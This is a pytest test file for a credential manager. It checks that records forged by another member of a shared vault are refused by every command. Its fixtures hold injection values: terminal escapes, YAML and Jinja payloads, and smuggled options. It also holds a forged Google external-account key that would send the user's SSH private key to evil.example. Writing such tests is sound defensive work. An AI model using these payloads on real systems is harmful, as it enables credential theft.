"""Case 77: what another member wrote into a shared record is decoded before anything is done with it."""

import json
from base64 import b64encode
from collections.abc import Callable, Mapping

import pytest

from nexcred.errors import Tampered
from nexcred.model.credential import Details, Value
from nexcred.model.secret import Secret
from nexcred.services.exporting.formats import FORMATS
from tests.support.forging import write_details_as
from tests.support.opened import Opened
from tests.support.people import invite
from tests.support.standins.google import service_account

GOOD: Mapping[str, Value] = {
    "host": "db.example.com",
    "port": 5432,
    "database": "d",
    "username": "u",
    "password": Secret("pw-EXAMPLE"),
    "sslmode": "verify-full",
}
TEMPLATE = b"{{ nexcred://pg/host }}\n"
# Every way to the values, with what is written to it.
READING: list[tuple[tuple[str, ...], bytes]] = [
    (("get", "pg/host"), b""),
    (("show", "pg", "--reveal"), b""),
    (("show", "pg", "--reveal", "--json"), b""),
    *(((("export", "pg", "--format", name)), b"") for name in FORMATS if name != "gha"),
    (("inject", "-i", "-"), TEMPLATE),
    (("request", "pg", "/"), b""),
    (("token", "pg"), b""),
    (("login", "pg"), b""),
    (("probe", "pg"), b""),
    (("update", "pg", "--set", "database=other", "--no-probe"), b""),
    (("restore", "pg", "--revision", "3"), b""),
    (("check", "-c", "pg"), b""),
    (("helper", "aws", "pg"), b""),
    (("helper", "kube", "pg"), b""),
    (("helper", "git", "pg", "get"), b"protocol=https\nhost=db.example.com\n\n"),
]
RUNNING = [("run", "-c", "pg", "--", "env"), ("run", "--env", "X=pg/host", "--", "env")]
FORGED: dict[str, Callable[[Details], Details]] = {
    "a field that obeys": lambda one: with_values(one, **{"\x1b]0;owned\x07": "x"}),
    "a field that breaks lines": lambda one: with_values(one, **{"host\nowned": "x"}),
    "a field of YAML": lambda one: with_values(one, **{"? &a": "x"}),
    "a field that nobody declares": lambda one: with_values(one, options="-c log_statement=all"),
    "a secret that nobody declares": lambda one: with_values(one, pager=Secret("x")),
    "a port that is a text": lambda one: with_values(one, port="5432"),
    "a port that is YAML": lambda one: with_values(one, port="5432\n      sslmode: disable"),
    "a port beyond ports": lambda one: with_values(one, port=70000),
    "a mode that is none": lambda one: with_values(one, sslmode="allow"),
    "a mode of Jinja": lambda one: with_values(one, sslmode="{{ env_var('HOME') }}"),
    "a host with a path": lambda one: with_values(one, host="/tmp/theirs"),
    "a host as a secret": lambda one: with_values(one, host=Secret("db.example.com")),
    "a host that is a number": lambda one: with_values(one, host=1),
    "a password in the open": lambda one: with_values(one, password="pw-EXAMPLE"),
    "a password that is binary": lambda one: with_values(one, password=Secret(b"\xff")),
    "a database that obeys": lambda one: with_values(one, database="\x1b[2J"),
    "a method that is none": lambda one: one._replace(method="kerberos"),
    "a digest of nobody's": lambda one: with_values(one, sslmode="allow")._replace(digest="ab" * 32),
}


def with_values(details: Details, **values: Value) -> Details:
    return details._replace(fields={**details.fields, **values})


@pytest.fixture
def mallory(opened: Opened) -> Opened:
    """A member who holds a record of the founder's."""
    settings = [word for name, value in GOOD.items() for word in ("--set", f"{name}={value}") if name != "password"]
    added = opened("add", "postgres", "pg", *settings, "--set", "password=-", "--no-probe", stdin=b"pw-EXAMPLE")
    assert added.code == 0, added.err
    assert opened("update", "pg", "--set", "port=5433", "--no-probe").code == 0
    mallory = invite(opened, "mallory", "--role", "member")
    assert opened("share", "pg", "--with", "mallory").code == 0
    return mallory


@pytest.mark.parametrize("forge", FORGED.values(), ids=FORGED)
def test_no_command_does_anything_with_it(opened: Opened, mallory: Opened, forge: Callable[[Details], Details]) -> None:
    write_details_as(mallory, "pg", forge)
    if forge is FORGED["a field that nobody declares"]:  # once for all commands; for the others one of a kind
        commands = [*READING, *((words, b"") for words in RUNNING)]
    else:
        commands = [READING[0], READING[1], READING[3], (RUNNING[0], b""), (("probe", "pg"), b"")]
    write_details_as(mallory, "pg", lambda present: present)  # so that what is forged is a past revision too
    commands.append((("vault", "verify"), b""))
    for words, stdin in commands:
        wanted = 125 if words[0] == "run" else 9
        ran = opened(*words, stdin=stdin)
        assert (ran.code, ran.out.strip()) == (wanted, ""), (words, ran)
        assert "'pg' holds what its connector does not accept" in ran.err
        if words[:1] != ("restore",):
            assert "; written by mallory" in ran.err, words
        assert "EXAMPLE" not in ran.err
        assert ran.err.replace("\n", "").isprintable()


def test_what_is_taken_away_is_told_by_who_needs_it(opened: Opened, mallory: Opened) -> None:
    write_details_as(mallory, "pg", lambda one: one._replace(fields={"database": "d"}))
    for words, stdin in READING:
        ran = opened(*words, stdin=stdin)
        assert "internal error" not in ran.err, words


def test_what_was_there_before_is_brought_back(opened: Opened, mallory: Opened) -> None:
    write_details_as(mallory, "pg", FORGED["a mode that is none"])
    assert "nexcred restore 'pg' --revision N" in opened("get", "pg/host").err
    assert opened("restore", "pg", "--revision", "2").code == 0
    assert opened("get", "pg/port").out == "5433"


def test_a_record_that_is_spoilt_keeps_nobody_from_the_others(opened: Opened, mallory: Opened) -> None:
    held = {"HELD": "k-EXAMPLE"}
    login = ("--method", "basic", "--set", "base_url=https://git.example.com", "--set", "username=ada")
    for name in ("git", "spoilt"):
        added = opened("add", "rest", name, *login, "--set", "password=env:HELD", "--no-probe", environment=held)
        assert added.code == 0, added.err
    assert opened("share", "spoilt", "--with", "mallory").code == 0
    write_details_as(mallory, "spoilt", lambda one: with_values(one, owned="x"))
    told = opened("helper", "git", "get", stdin=b"protocol=https\nhost=git.example.com\n\n")
    assert (told.code, "password=k-EXAMPLE" in told.out) == (0, True)
    assert "left out: 'spoilt' holds what its connector does not accept" in told.err


def test_many_are_probed_though_one_is_spoilt(opened: Opened, mallory: Opened) -> None:
    added = opened("add", "resci", "--set", "api_key=env:HELD", "--no-probe", environment={"HELD": "k-EXAMPLE"})
    assert added.code == 0
    write_details_as(mallory, "pg", FORGED["a mode that is none"])
    ran = opened("probe", "--all", "--json", "--junit", "junit.xml", environment={"HTTPS_PROXY": "http://127.0.0.1:1"})
    assert ran.code == 9
    assert [probed["name"] for probed in json.loads(ran.out)] == ["resci"]
    assert json.loads(ran.err.splitlines()[-1])["error"]["fields"][0]["field"] == "sslmode"
    assert "holds what its connector does not accept" in (opened.home / "junit.xml").read_text()


def test_without_the_connector_values_are_shown_and_no_more(opened: Opened, mallory: Opened) -> None:
    write_details_as(mallory, "pg", lambda one: one._replace(connector="gone", fields={**one.fields, "\x1b[2J": "x"}))
    assert opened("get", "pg/host").out == "db.example.com"
    shown = opened("show", "pg", "--reveal")
    assert (shown.code, "pw-EXAMPLE" in shown.out, "\x1b" in shown.out) == (0, True, False)
    missing = opened("get", "pg/nothing")
    assert (missing.code, "\x1b" in missing.err) == (3, False)
    for words, stdin in READING[3:]:
        if words[0] not in ("probe", "restore"):
            ran = opened(*words, stdin=stdin)
            assert (ran.code, "no connector named 'gone'" in ran.err + ran.out) == (3, True), (words, ran)
    assert opened("restore", "pg", "--revision", "2").code == 3
    assert json.loads(opened("probe", "pg", "--json").out)[0]["status"] == "unsupported"


def test_a_program_gets_nothing_of_it_either(opened: Opened, mallory: Opened, monkeypatch: pytest.MonkeyPatch) -> None:
    import nexcred

    write_details_as(mallory, "pg", FORGED["a host with a path"])
    for name in ("HOME", "NEXCRED_IDENTITY"):
        monkeypatch.setenv(name, opened.environment[name])
    credential = nexcred.open()["pg"]
    for use in (lambda: credential.fields["host"], credential.env, credential.session, credential.token):
        with pytest.raises(Tampered):
            use()


@pytest.mark.parametrize("encode", [str, lambda text: b64encode(text.encode()).decode()], ids=["JSON", "base64"])
@pytest.mark.parametrize("connector", ["gcs", "bigquery"])
def test_a_key_file_has_no_library_read_files(opened: Opened, connector: str, encode: Callable[[str], str]) -> None:
    """Google's go by the type: this one would send the file, as a token, to the address."""
    key = service_account("https://oauth2.googleapis.com/token")
    theirs = {
        **key,
        "type": "external_account",
        "token_url": "https://evil.example/token",
        "credential_source": {"file": str(opened.home / ".ssh" / "id_ed25519")},
    }
    added = opened("add", connector, "files", "--set", "service_account_key=-", "--no-probe", stdin=dumped(key))
    assert added.code == 0, added.err
    mallory = invite(opened, "mallory", "--role", "member")
    assert opened("share", "files", "--with", "mallory").code == 0
    forged = Secret(encode(json.dumps(theirs)))
    write_details_as(mallory, "files", lambda one: with_values(one, service_account_key=forged))
    ran = opened("run", "-c", "files", "--", "sh", "-c", "cat $GOOGLE_APPLICATION_CREDENTIALS")
    assert (ran.code, ran.out) == (125, "")
    assert "service_account_key holds another type than service_account" in ran.err
    refused = opened("add", connector, "own", "--set", "service_account_key=-", "--no-probe", stdin=dumped(theirs))
    assert (refused.code, opened.names) == (2, ["files"])


def dumped(document: object) -> bytes:
    return json.dumps(document).encode()
